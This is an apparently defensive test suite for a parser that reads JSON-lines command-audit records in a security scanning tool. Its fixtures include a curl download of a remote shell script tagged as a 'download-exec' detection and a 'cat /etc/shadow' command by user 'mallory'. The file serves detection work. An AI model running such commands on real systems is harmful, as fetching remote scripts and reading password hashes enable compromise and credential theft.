import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createJsonLinesParser } from '../../../src/sources/parsers/json-lines.js';
import { NOW, baseOptions, run } from './parser-harness.js';

const parser = () => createJsonLinesParser(baseOptions);

describe('JSON lines parser (Vouch schema)', () => {
  it('parses a full record', () => {
    const line = JSON.stringify({
      id: 'evt-1',
      time: '2026-11-24T14:23:28.5Z',
      host: 'web-1',
      user: 'alice',
      run_as: 'root',
      argv: ['/bin/sh', '-c', 'echo hi; id'],
      cwd: '/srv',
      exe: '/bin/sh',
      pid: 10,
      ppid: 9,
      login_uid: 1000,
      sudo_denied: true,
      denial_reason: 'command not allowed',
      success: false,
      extra: { ticket: 'OPS-1' },
    });
    const { events, malformed } = run(parser(), [line]);
    expect(malformed).toEqual([]);
    expect(events[0]).toEqual({
      time: new Date('2026-11-24T14:23:28.500Z'),
      host: 'web-1',
      user: 'alice',
      loginUid: 1000,
      runAs: 'root',
      argv: ['/bin/sh', '-c', 'echo hi; id'],
      command: '/bin/sh -c echo hi; id',
      exe: '/bin/sh',
      cwd: '/srv',
      pid: 10,
      ppid: 9,
      sourceFormat: 'json',
      eventKey: 'json:["web-1","evt-1"]',
      sudoDenied: true,
      denialReason: 'command not allowed',
      success: false,
      extra: { ticket: 'OPS-1' },
    });
  });

  it('splits command on whitespace without argv and accepts epoch seconds and milliseconds', () => {
    const lines = [
      JSON.stringify({ time: 1795530208, command: '  ls   -la\t/tmp ' }),
      JSON.stringify({ time: 1795530208123, command: 'id' }),
      JSON.stringify({ time: '1795530208', command: 'id' }),
    ];
    const { events } = run(parser(), lines);
    expect(events.map((e) => [e.time.getTime(), e.argv, e.host, e.user])).toEqual([
      [1795530208000, ['ls', '-la', '/tmp'], 'default-host', null],
      [1795530208123, ['id'], 'default-host', null],
      [1795530208000, ['id'], 'default-host', null],
    ]);
    expect(events[0]!.eventKey).toMatch(/^json:[0-9a-f]{40}$/);
  });

  it('reads a line printed by `vouch scan --json`, ignoring rule and source_format', () => {
    const scanned = {
      time: '2026-11-24T14:23:28.000Z',
      host: 'web-1',
      user: 'alice',
      run_as: 'root',
      argv: ['/usr/bin/curl', '-s', 'http://203.0.113.9/x.sh'],
      command: '/usr/bin/curl -s http://203.0.113.9/x.sh',
      cwd: '/tmp',
      source_format: 'auditd',
      rule: { id: 'download-exec', severity: 'high' },
    };
    const event = run(parser(), [JSON.stringify(scanned)]).events[0]!;
    expect(event).toMatchObject({
      time: new Date(scanned.time),
      host: scanned.host,
      user: scanned.user,
      runAs: scanned.run_as,
      argv: scanned.argv,
      command: scanned.command,
      cwd: scanned.cwd,
      sourceFormat: 'json',
    });
  });

  it.each([
    [{ time: '2026-11-24T14:23:28Z', argv: 'ls' }, /argv/],
    [{ time: '2026-11-24T14:23:28Z', argv: ['ls', 1] }, /argv/],
    [{ time: '2026-11-24T14:23:28Z' }, /argv or command/],
    [{ time: 1, command: '   ' }, /empty/],
    [{ time: 1, command: 'ls', host: 5 }, /host/],
    [{ time: 1, argv: 'ls', command: 7 }, /argv or command is required \(argv must be an array of strings; command must be a string\)/],
  ])('rejects %j as bad_json: its command or host cannot be read', (record, message) => {
    const { events, malformed } = run(parser(), [JSON.stringify(record)]);
    expect(events).toEqual([]);
    expect(malformed).toHaveLength(1);
    expect(malformed[0]!.reason).toBe('bad_json');
    expect((malformed[0] as { detail?: string }).detail).toMatch(message);
  });

  it.each([
    ['missing', undefined, /time is missing: the time it was read is used/],
    ['null', null, /time is missing/],
    ['a word', 'yesterday', /time must be an ISO 8601 string or epoch seconds\/milliseconds: the time it was read is used/],
    ['an impossible offset', '2026-11-24T09:00:00+99:99', /time must be/],
    ['past year 9999', '10000-01-01T00:00:00Z', /time must be/],
    ['the largest Date', '+275760-09-13T00:00:00.000Z', /time must be/],
    ['a negative epoch', -1, /time must be/],
    ['an epoch past year 9999', 9e21, /time must be/],
    ['RFC 1123', 'Tue, 24 Nov 2026 09:00:00 GMT', /time must be/],
  ])('keeps a command whose time is %s, at the time it was read, flagged and counted', (_what, time, message) => {
    const { events, malformed } = run(parser(), [JSON.stringify({ time, host: 'db-1', user: 'mallory', argv: ['cat', '/etc/shadow'] })]);
    expect(events.map((e) => [e.command, e.user, e.time.toISOString(), e.extra?.time_unreadable])).toEqual([['cat /etc/shadow', 'mallory', NOW.toISOString(), 'true']]);
    expect(malformed.map((m) => m.reason)).toEqual(['bad_field']);
    expect((malformed[0] as { detail?: string }).detail).toMatch(message);
  });

  it('reads epoch seconds with a fraction given as text, and a real offset', () => {
    const times = ['1700000000.123', '2026-11-24T09:00:00+14:00', '2026-11-24T09:00:00-12:00'].map((time) => run(parser(), [JSON.stringify({ time, argv: ['id'] })]).events[0]!.time.toISOString());
    expect(times).toEqual(['2023-11-14T22:13:20.123Z', '2026-11-23T19:00:00.000Z', '2026-11-24T21:00:00.000Z']);
  });

  const shadow = { time: '2026-11-24T14:23:28Z', host: 'db-1', user: 'mallory', argv: ['cat', '/etc/shadow'] };
  it.each([
    [{ pid: 1.5 }, { pid: null }, /pid must be an integer/],
    [{ pid: 2 ** 32 + 5 }, { pid: null }, /pid must be a process id \(0 to 2147483647\)/],
    [{ pid: -5, ppid: '4294967296' }, { pid: null, ppid: null }, /pid must be a process id .*; ppid must be a process id/],
    [{ ppid: 'abc' }, { ppid: null }, /ppid must be an integer/],
    [{ login_uid: 'abc' }, { loginUid: null }, /login_uid must be an integer/],
    [{ sudo_denied: 'yes' }, { sudoDenied: undefined }, /sudo_denied must be a boolean/],
    [{ success: 'no' }, { success: undefined }, /success must be a boolean/],
    [{ extra: 'str' }, { extra: undefined }, /extra must be an object of strings/],
    [{ extra: { ticket: 'OPS-1', n: 1 } }, { extra: { ticket: 'OPS-1' } }, /extra\.n must be a string/],
    [{ cwd: ['/root'], exe: 5 }, { cwd: null, exe: null }, /exe must be a string; cwd must be a string/],
    [{ user: 5 }, { user: null }, /user must be a string/],
    [{ run_as: {}, denial_reason: 1 }, { runAs: null }, /run_as must be a string; denial_reason must be a string/],
    [{ id: 42 }, { eventKey: expect.stringMatching(/^json:[0-9a-f]{40}$/) }, /id must be a string/],
  ])('keeps the event with %j left out, counting the line as bad_field', (damaged, expected, message) => {
    const { events, malformed } = run(parser(), [JSON.stringify({ ...shadow, ...damaged })]);
    expect(events).toHaveLength(1);
    const event = events[0]!;
    expect(event).toMatchObject({ argv: ['cat', '/etc/shadow'], command: 'cat /etc/shadow', host: 'db-1', user: 'user' in damaged ? null : 'mallory' });
    expect(Object.fromEntries(Object.keys(expected).map((key) => [key, event[key as keyof typeof event]]))).toEqual(expected);
    expect(malformed).toEqual([expect.objectContaining({ reason: 'bad_field', detail: expect.stringMatching(message) as string })]);
  });

  it('reads the command when argv has the wrong type, counting the line as bad_field', () => {
    const { events, malformed } = run(parser(), [JSON.stringify({ time: 1, command: 'cat /etc/shadow', argv: 'cat' })]);
    expect(events.map((event) => event.argv)).toEqual([['cat', '/etc/shadow']]);
    expect(malformed).toEqual([expect.objectContaining({ reason: 'bad_field', detail: 'kept without: argv must be an array of strings' })]);
  });

  it('round-trips generated events: argv, user, host and cwd survive', () => {
    const text = fc.string({ unit: 'grapheme', maxLength: 20 });
    fc.assert(
      fc.property(
        fc.array(text, { minLength: 1, maxLength: 8 }),
        fc.option(text, { nil: null }),
        text,
        fc.option(text, { nil: null }),
        fc.integer({ min: 0, max: 4_000_000_000_000 }),
        (argv, user, host, cwd, ms) => {
          const line = JSON.stringify({ time: new Date(ms).toISOString(), host, user, argv, cwd });
          const { events, malformed } = run(parser(), [line]);
          expect(malformed).toEqual([]);
          expect(events[0]).toMatchObject({ argv, user, host, cwd, time: new Date(ms) });
        },
      ),
      { numRuns: 300 },
    );
  });
});
